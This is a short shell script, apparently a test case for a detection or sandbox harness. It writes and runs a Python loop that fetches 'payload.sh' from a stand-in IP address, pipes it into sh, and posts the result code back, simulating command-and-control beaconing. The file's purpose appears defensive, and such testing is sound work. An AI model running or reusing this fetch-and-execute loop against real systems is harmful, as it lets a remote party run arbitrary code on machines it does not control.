#!/bin/sh
. /opt/case/case.sh

cat >/tmp/u.py <<'EOF'
import subprocess, time, urllib.request
for round in range(6):
    task = urllib.request.urlopen("http://203.0.113.10:8080/payload.sh").read()
    done = subprocess.run(["sh", "-s"], input=task, capture_output=True)
    urllib.request.urlopen("http://203.0.113.10:8080/r", data=b"r=%d" % done.returncode)
    time.sleep(0.3)
EOF
python3 /tmp/u.py
wait_for /tmp/reached
took_place
